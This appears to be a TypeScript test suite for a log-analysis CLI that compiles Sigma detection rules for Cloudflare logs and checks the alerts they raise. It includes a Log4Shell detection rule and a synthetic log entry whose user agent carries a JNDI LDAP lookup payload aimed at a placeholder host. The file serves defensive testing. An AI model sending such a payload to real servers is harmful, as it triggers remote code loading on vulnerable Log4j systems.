import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { detectCommand } from '../../lib/cli/detect';
import { rulesCommand } from '../../lib/cli/rules';
import type { AlertRecord } from '../../lib/rules/alert';
import { generateLines } from '../../testkit/generate';
import { capture } from '../support/cli';
import { tempDir } from '../support/lake';

const LOG4J = `title: Log4Shell probe
id: 0b1c2d3e-0000-4000-8000-000000000001
status: test
author: Test Author
references: [https://example.com/log4shell]
tags: [attack.initial-access, attack.t1190]
logsource: { category: webserver }
detection:
  keywords: ['\${jndi:']
  condition: keywords
level: high
`;
const REFUSED = `title: Needs a user name
id: 0b1c2d3e-0000-4000-8000-000000000002
logsource: { category: webserver }
detection:
  s: { cs-username: admin }
  condition: s
level: low
`;
const DNS = `title: TXT lookups
id: 0b1c2d3e-0000-4000-8000-000000000003
logsource: { category: dns }
detection:
  s: { record_type: TXT }
  condition: s
level: informational
`;

function sigmaDir(): string {
  const dir = tempDir('sigma');
  mkdirSync(join(dir, 'web'));
  writeFileSync(join(dir, 'web', 'log4j.yml'), LOG4J);
  writeFileSync(join(dir, 'web', 'user.yml'), REFUSED);
  writeFileSync(join(dir, 'dns.yaml'), DNS);
  writeFileSync(join(dir, 'README.md'), 'not a rule');
  return dir;
}

async function run(cmd: typeof rulesCommand, argv: string[]) {
  const out = capture();
  const err = capture();
  const code = await cmd(argv, { stdout: out.stream, stderr: err.stream }, {});
  return { code, stdout: out.text(), stderr: err.text() };
}

describe('cflogs rules sigma / rules list', () => {
  it('reports what compiled per category and dataset and each refusal with its reason; exit 0', async () => {
    const r = await run(rulesCommand, ['sigma', sigmaDir()]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('2 of 3 Sigma rules compiled');
    expect(r.stdout).toContain('webserver -> Cloudflare.HttpRequest: 1');
    expect(r.stdout).toContain('dns -> Cloudflare.GatewayDNS + Cloudflare.DNS: 1');
    expect(r.stdout).toMatch(/web\/user\.yml \(0b1c2d3e-0000-4000-8000-000000000002\): unmapped field for category webserver: cs-username/);
    const json = await run(rulesCommand, ['sigma', sigmaDir(), '--json']);
    expect(json.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { compiled: boolean }).compiled)).toEqual([true, true, false]);
  });

  it('lists every rule with its source', async () => {
    const r = await run(rulesCommand, ['list', '--json', '--sigma', sigmaDir()]);
    expect(r.code).toBe(0);
    const rows = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; source: string; severity: string; enabled: boolean; logTypes: string[]; tags: string[] });
    expect(rows.find((x) => x.id === 'Sigma.0b1c2d3e-0000-4000-8000-000000000001')).toMatchObject({
      source: 'sigma',
      severity: 'High',
      enabled: true,
      logTypes: ['Cloudflare.HttpRequest'],
      tags: ['attack.initial-access', 'attack.t1190'],
    });
    expect(rows.filter((x) => x.source === 'built-in').length).toBeGreaterThan(0);
    const text = await run(rulesCommand, ['list']);
    expect(text.stdout).toMatch(/\d+ rules\n$/);
    await expect(run(rulesCommand, ['test', '--sigma', 'x'])).rejects.toThrow(/--sigma goes with rules list/);
    await expect(run(rulesCommand, ['sigma'])).rejects.toThrow(/one directory/);
  });
});

describe('cflogs detect --sigma', () => {
  it('runs the compiled Sigma rules beside the built-in ones, crediting the author in the alert', async () => {
    const dir = tempDir('sigma-detect');
    const lines = [...generateLines({ dataset: 'http_requests', lines: 50, seed: 3, timestampFormat: 'unixnano' })];
    const attack = JSON.parse(lines[0] as string) as Record<string, unknown>;
    attack.ClientRequestUserAgent = '${jndi:ldap://203.0.113.9/a}';
    attack.ClientIP = '203.0.113.50';
    const file = join(dir, 'http.log');
    writeFileSync(file, [...lines, JSON.stringify(attack)].join('\n') + '\n');
    const out = capture();
    const err = capture();
    const code = await detectCommand(
      ['--sigma', sigmaDir(), '--log-type', 'http_requests', file],
      { stdout: out.stream, stderr: err.stream, stdin: new PassThrough(), clock: () => new Date('2026-11-24T12:00:00Z') },
      {},
    );
    expect(code).toBe(0);
    expect(err.text()).toContain('Sigma rules: 2 compiled, 1 refused');
    const alerts = out.text().split('\n').filter(Boolean).map((l) => JSON.parse(l) as AlertRecord);
    const sigma = alerts.filter((a) => a.ruleId.startsWith('Sigma.'));
    expect(sigma).toHaveLength(1);
    expect(sigma[0]).toMatchObject({ ruleId: 'Sigma.0b1c2d3e-0000-4000-8000-000000000001', title: 'Log4Shell probe from 203.0.113.50', eventCount: 1 });
    expect(JSON.stringify(sigma[0])).toContain('Test Author');
    expect(JSON.stringify(sigma[0])).toContain('DRL');
  });
});
